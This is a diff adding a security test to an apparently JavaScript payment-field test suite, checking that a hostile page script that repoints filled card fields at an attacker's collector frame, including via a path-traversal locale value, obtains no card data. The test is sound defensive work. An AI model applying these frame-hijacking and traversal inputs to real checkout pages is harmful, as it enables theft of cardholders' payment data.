@@ -266,6 +266,31 @@ describe('attack: a hostile script on the page', function () {
     expect((await sandbox.sources()).length).to.equal(sourcesBefore);
   });
 
+  it('points filled fields at its own frame after they rendered (frameUrl, frame-url, a hostile locale): nothing reaches it', async () => {
+    const { dr, number, expiry, cvv } = await filledCard();
+    const sourcesBefore = (await sandbox.sources()).length;
+    // A frame URL set after render takes effect, so the hijacked field loads the attacker's page in its place.
+    number.fieldElement.frameUrl = `${collector()}/frame.html`;
+    expiry.fieldElement.setAttribute('frame-url', `${collector()}/frame.html`);
+    // A locale names the language script the frame loads: it can only pick one of the frame origin's own.
+    cvv.fieldElement.locale = `../../../${collector()}/x`;
+    await waitUntil(async () => (await attackerLog()).filter((record) => record.path.endsWith('/message')).length >= 2, 'both hijacked fields loaded the attacker page');
+    const result = await dr.createSource(number, { type: 'creditCard' });
+    expect('error' in result, JSON.stringify(result)).to.equal(true);
+    // The value stayed on the frame origin: pointed back at the genuine frames, the field gets it back.
+    number.fieldElement.frameUrl = frameUrl();
+    await waitUntil(() => number.fieldElement.state.complete, 'the genuine frame has the number back');
+
+    const log = await attackerLog();
+    expect(cardDataIn(log.map((record) => record.body))).to.deep.equal([]);
+    // What it got besides loads of its own pages (a frame, and a controller for its "deployment"): the messages its
+    // frames were sent, settings and commands, no card data (checked above).
+    const sent = log.filter((record) => record.method !== 'GET');
+    expect(sent.every((record) => record.path.endsWith('/message')), JSON.stringify(sent.map((record) => record.path))).to.equal(true);
+    expect(cardDataIn(received)).to.deep.equal([]);
+    expect((await sandbox.sources()).length).to.equal(sourcesBefore);
+  });
+
   it('clones the frames (same URLs, its own handshake): a clone shows the value back, and gives the attacker nothing', async () => {
     const { number } = await filledCard();
     const original = number.fieldElement.shadowRoot!.querySelector('iframe')!;
